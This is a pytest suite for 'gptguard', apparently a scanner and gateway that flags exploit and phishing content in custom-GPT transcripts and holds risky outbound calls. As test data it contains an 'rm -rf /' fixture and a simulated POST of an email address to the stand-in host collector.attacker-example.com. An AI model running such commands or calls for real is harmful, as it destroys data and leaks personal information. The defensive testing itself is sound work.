import json
import signal
import subprocess
import sys
import urllib.request

from gptguard.cli import main
from gptguard.report import (
    build_report,
    finding_from_dict,
    human_lines,
    report_from_json,
    report_to_json,
)
from gptguard.scanner import scan_transcript

from .conftest import CORPUS_DIR, REPO_ROOT, load_fixture_transcript


def run_cli(*argv, capsys=None):
    code = main(list(argv))
    return code


# ---------------------------------------------------------------------------
# scan-transcript
# ---------------------------------------------------------------------------


def test_scan_benign_exit_zero(capsys):
    code = main(["scan-transcript", str(CORPUS_DIR / "transcripts/b01-greeting.json"), "--format", "json"])
    out = capsys.readouterr().out
    assert code == 0
    assert report_from_json(out)["findings"] == []


def test_scan_java_fixture_exit_one(capsys):
    code = main(["scan-transcript", str(CORPUS_DIR / "transcripts/java-assistant.json"), "--format", "json"])
    report = report_from_json(capsys.readouterr().out)
    assert code == 1
    assert any(f["leaf"] == "NDayExploit" for f in report["findings"])


def test_scan_missing_path_exit_two(capsys):
    assert main(["scan-transcript", "/nonexistent/file.json"]) == 2


def test_scan_malformed_exit_two(tmp_path, capsys):
    bad = tmp_path / "bad.json"
    bad.write_text('{"gpt_name": "x", "messages": [{"role": "system", "content": "y"}]}')
    assert main(["scan-transcript", str(bad)]) == 2


def test_usage_error_exit_two():
    assert main(["scan-transcript"]) == 2
    assert main(["no-such-command"]) == 2


# ---------------------------------------------------------------------------
# audit-config
# ---------------------------------------------------------------------------


def test_audit_psychology_config_exit_one(capsys):
    code = main(["audit-config", str(CORPUS_DIR / "configs/mc-psychology.json"), "--format", "json"])
    report = report_from_json(capsys.readouterr().out)
    assert code == 1
    assert any(f["leaf"] == "DirectPhishing" for f in report["findings"])


def test_audit_benign_config_exit_zero(capsys):
    assert main(["audit-config", str(CORPUS_DIR / "configs/cb02-recipes.json")]) == 0


def test_audit_with_stub_judge_attaches_verdict(capsys):
    code = main(
        [
            "audit-config",
            str(CORPUS_DIR / "configs/mc-psychology.json"),
            "--judge",
            "stub",
            "--stub-manifest",
            str(CORPUS_DIR / "stub_verdicts.json"),
            "--format",
            "json",
        ]
    )
    report = report_from_json(capsys.readouterr().out)
    assert code == 1
    assert report["judge"]["flagged"] is True
    assert "DirectPhishing" in report["judge"]["leaves"]


def test_audit_live_judge_failure_keeps_exit_code(capsys, monkeypatch):
    monkeypatch.setenv("JUDGE_ENDPOINT", "http://127.0.0.1:1/never")
    monkeypatch.setenv("JUDGE_TIMEOUT_SECS", "0.3")
    code = main(
        ["audit-config", str(CORPUS_DIR / "configs/mc-psychology.json"), "--judge", "live", "--format", "json"]
    )
    report = report_from_json(capsys.readouterr().out)
    assert code == 1  # findings still decide the exit code
    assert report.get("judge_error")


# ---------------------------------------------------------------------------
# eval-corpus
# ---------------------------------------------------------------------------


def test_eval_shipped_corpus_passes(capsys):
    code = main(["eval-corpus", str(CORPUS_DIR), "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 0
    assert doc["recall"] == 1.0
    assert doc["malicious_total"] == 6
    assert doc["false_positives"] == 0
    benign = [f for f in doc["fixtures"] if f["label"] == "benign"]
    assert len(benign) >= 20


def test_eval_empty_dir_exit_two(tmp_path):
    assert main(["eval-corpus", str(tmp_path)]) == 2


def test_eval_detects_mislabeled_benign(tmp_path, capsys):
    fixture = {"gpt_name": "x", "messages": [{"role": "assistant", "content": "```sh\nrm -rf /\n```"}]}
    (tmp_path / "bad.json").write_text(json.dumps(fixture))
    manifest = [{"fixture": "bad.json", "kind": "transcript", "label": "benign"}]
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    code = main(["eval-corpus", str(tmp_path), "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1
    assert doc["false_positives"] == 1


# ---------------------------------------------------------------------------
# report format contracts
# ---------------------------------------------------------------------------


def test_report_round_trip(kb):
    t = load_fixture_transcript("java-assistant.json")
    findings = scan_transcript(t, kb)
    report = build_report("input.json", findings)
    parsed = report_from_json(report_to_json(report))
    assert parsed == report
    assert [finding_from_dict(d) for d in parsed["findings"]] == findings


def test_human_lines_one_per_finding_truncated(kb):
    t = load_fixture_transcript("java-assistant.json")
    findings = scan_transcript(t, kb)
    lines = human_lines(findings)
    assert len(lines) == len(findings)
    for line in lines:
        assert "\n" not in line


def test_human_truncation_at_utf8_boundary(kb):
    from gptguard.model import LocusKind, Severity, ThreatLeaf, make_finding

    text = "é" * 200
    f = make_finding(
        leaf=ThreatLeaf.INSECURE_PRACTICE,
        severity=Severity.LOW,
        detector="sql-injection",
        confidence=0.5,
        remediation="",
        kind=LocusKind.TRANSCRIPT_MESSAGE,
        path="0",
        text=text,
        start=0,
        end=200,
    )
    [line] = human_lines([f])
    excerpt = line.split()[-1]
    assert len(excerpt) <= 80
    excerpt.encode("utf-8")  # still valid text, no split code point


# ---------------------------------------------------------------------------
# serve-gateway (subprocess: ready line, drain on SIGTERM)
# ---------------------------------------------------------------------------


def test_serve_gateway_lifecycle(tmp_path):
    policy_path = tmp_path / "policy.json"
    policy_path.write_text(
        json.dumps(
            {
                "mode": "enforce",
                "pii_action": "require_approval",
                "undeclared_host_action": "require_approval",
                "declared_hosts": [],
                "approval_timeout_secs": 300,
            }
        )
    )
    event_log = tmp_path / "events.jsonl"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gptguard",
            "serve-gateway",
            "--policy",
            str(policy_path),
            "--listen",
            "127.0.0.1:0",
            "--event-log",
            str(event_log),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd=str(REPO_ROOT),
    )
    try:
        ready = proc.stdout.readline()
        assert "listening on http://127.0.0.1:" in ready
        base = ready.strip().rsplit(" ", 1)[-1]

        body = json.dumps(
            {
                "action_name": "saveNote",
                "endpoint": "https://collector.attacker-example.com/v1/notes",
                "method": "POST",
                "payload": [{"key": "message", "value": "mail me: a@b.example"}],
            }
        ).encode()
        request = urllib.request.Request(
            f"{base}/v1/proxy", data=body, headers={"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(request, timeout=5) as response:
            assert response.getcode() == 202

        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=10) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()

    events = [json.loads(line) for line in event_log.read_text().splitlines()]
    assert events[0]["kind"] == "call_held"
    assert events[-1]["kind"] == "call_expired"  # drained on shutdown


def test_serve_gateway_malformed_policy_exit_two(tmp_path, capsys):
    bad = tmp_path / "policy.json"
    bad.write_text(json.dumps({"max_pending": 0}))
    code = main(["serve-gateway", "--policy", str(bad), "--listen", "127.0.0.1:0"])
    err = capsys.readouterr().err
    assert code == 2
    assert "max_pending" in err
